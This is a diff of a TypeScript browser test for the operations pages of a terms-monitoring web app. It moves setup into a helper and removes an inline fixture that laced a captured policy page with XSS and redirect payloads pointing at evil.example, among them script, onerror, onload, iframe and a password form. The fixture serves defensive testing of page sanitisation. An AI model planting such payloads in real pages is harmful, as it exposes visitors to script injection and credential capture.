@@ -1,49 +1,32 @@
-import { join } from "node:path";
 import type { Browser, Page } from "playwright";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { createDiskSnapshots } from "../../src/adapters/snapshots/disk.ts";
-import { createIncident } from "../../src/core/incidents.ts";
 import type { Digest } from "../../src/model/digest.ts";
-import { digestOf, digestOfFields } from "../../src/model/digest.ts";
-import { parseInstant } from "../../src/model/instant.ts";
-import { createNotification } from "../../src/model/notification.ts";
-import { createSnapshot } from "../../src/model/snapshot.ts";
 import type { WebStore } from "../../src/ports/web-store.ts";
-import { renderTerms } from "../servers/site.ts";
 import { listViolations } from "./axe.ts";
+import { heldUrl, holdAnswer, keepHeldBytes } from "./held-answer.ts";
 import type { ServedHistory } from "./served-history.ts";
 import { serveHistory } from "./served-history.ts";
 import { launchBrowser, phone, visit } from "./web-browser.ts";
 
 const password = "correct horse battery";
-const termsId = "halcyon-ai/acceptable-use-policy";
-const at = parseInstant("2026-03-01T06:00:00Z");
-const url = "https://halcyon.example/acceptable-use";
-
-/** The terms, and whatever a page could try on whoever looks at it. */
-const captured = renderTerms("Halcyon AI", ["develop models that compete with ours;"])
-  .replace("<head>", '<head><meta http-equiv="refresh" content="0;url=https://evil.example/">')
-  .replace(
-    "</main>",
-    `<script>alert(1); fetch("https://evil.example/")</script><img src="https://evil.example/x.png" onerror="alert(2)" alt="Seal">
-    <svg onload="alert(3)"></svg><style>@import url(https://evil.example/x.css);</style>
-    <iframe src="https://evil.example/"></iframe><a href="https://evil.example/" target="_top">leave</a>
-    <form action="https://evil.example/"><input name="password" autofocus onfocus="alert(4)"><button>Go</button></form></main>`,
-  );
-const bytes = new TextEncoder().encode(captured);
 
 let browser: Browser;
 let served: ServedHistory;
+/** The check whose answer was held back. */
+let heldId: Digest;
+
+async function record(store: WebStore): Promise<void> {
+  heldId = await holdAnswer(store);
+}
 
 beforeAll(async () => {
   browser = await launchBrowser();
   served = await serveHistory({ env: { CLAUSEWATCH_ADMIN_PASSWORD: password }, record });
   const { workspace } = served;
-  const snapshots = await createDiskSnapshots({ dir: join(workspace.dir, "snapshots") });
-  await snapshots.put(bytes);
+  await keepHeldBytes(workspace.dir);
   await workspace.write("watchlist/halcyon-ai.json", {
     name: "Halcyon AI",
-    terms: { "Acceptable Use Policy": { fetch: url } },
+    terms: { "Acceptable Use Policy": { fetch: heldUrl } },
   });
 }, 60_000);
 
@@ -51,71 +34,6 @@ afterAll(async () => {
   await served?.[Symbol.asyncDispose]();
   await browser?.close();
 });
-
-/** An answer that was held back, and a delivery about it that failed. */
-async function record(store: WebStore): Promise<void> {
-  const snapshot = createSnapshot(
-    termsId,
-    {
-      requestedUrl: url,
-      finalUrl: url,
-      redirects: [],
-      status: 200,
-      headers: { "content-type": "text/html; charset=utf-8" },
-      via: "http",
-      remoteAddress: null,
-      robots: "allowed",
-      requestedAt: at,
-      fetchedAt: at,
-    },
-    digestOf(bytes),
-    bytes.byteLength,
-  );
-  await store.putSnapshot(snapshot);
-  const detail = "too little of it is left <b>";
-  const incident = createIncident(termsId, "quarantined", "collapsed", { detail, at });
-  await store.recordCheck({
-    check: {
-      id: digestOfFields(termsId, at),
-      termsId,
-      startedAt: at,
-      finishedAt: at,
-      outcome: "quarantined",
-      fault: "collapsed",
-      detail,
-      snapshotIds: [snapshot.id],
-      versionId: null,
-    },
-    versions: [],
-    change: null,
-    matched: [],
-    notifications: [
-      createNotification({
-        subject: "incident",
-        subjectId: incident.id,
-        subscriptionId: "operators",
-        channel: "email",
-        target: "ops@example.org",
-        changeIndexes: [],
-        createdAt: at,
-      }),
-    ],
-    pending: null,
-    variant: null,
-    openedIncidents: [incident],
-    closedIncidentIds: [],
-  });
-  const claim = { now: at, limit: 1, leaseMs: 1000, leaseToken: "x", channel: "email" } as const;
-  const [claimed] = await store.claimNotifications(claim);
-  if (claimed === undefined) throw new Error("nothing is owed");
-  const failed = { notificationId: claimed.id, attempt: 1, at, outcome: "failed" } as const;
-  const response = "550 <script>alert(5)</script>";
-  await store.recordDelivery(
-    claimed,
-    { ...failed, response, messageDigest: null as Digest | null },
-    null,
-  );
-}
 
 /** Signs in as whoever runs this, on the way to a page. */
 async function signIn(page: Page, place: string): Promise<void> {
@@ -201,8 +119,8 @@ describe("pages of operations", () => {
       "/operations",
       "/operations/checks",
       "/operations/quarantines",
-      `/operations/quarantines/${digestOfFields(termsId, at)}`,
-      `/operations/quarantines/${digestOfFields(termsId, at)}?show=difference`,
+      `/operations/quarantines/${heldId}`,
+      `/operations/quarantines/${heldId}?show=difference`,
       "/reviews?state=all",
       "/audit",
     ]) {
